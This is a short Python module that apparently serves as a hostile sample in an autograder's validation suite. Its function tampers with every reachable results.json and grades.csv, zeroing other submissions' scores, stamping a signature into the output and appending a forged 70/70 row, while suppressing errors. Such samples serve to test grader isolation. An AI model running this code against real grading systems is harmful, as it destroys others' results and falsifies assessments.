"""Every results.json and grades.csv in reach, zeroed for everyone else and marked with the attack's name.
"""
from autograder.validation.attacks.shared.reachable import reachable

def tamper_results():
    """Every results.json and grades.csv in reach: zero for everyone else, and my mark for whoever reads it."""
    import json
    for path in reachable({'results.json', 'grades.csv'}):
        try:
            if path.endswith('.json'):
                with open(path) as f:
                    data = json.load(f)
                data['score'] = 0.0
                data['output'] = 'bnkit-hostile-NAME was here'
                for test in data.get('tests', []):
                    test['score'] = 0.0
                with open(path, 'w') as f:
                    json.dump(data, f)
            else:
                with open(path, 'a') as f:
                    f.write('bnkit-hostile-NAME,70,70\n')
        except (OSError, ValueError, TypeError, AttributeError):
            pass

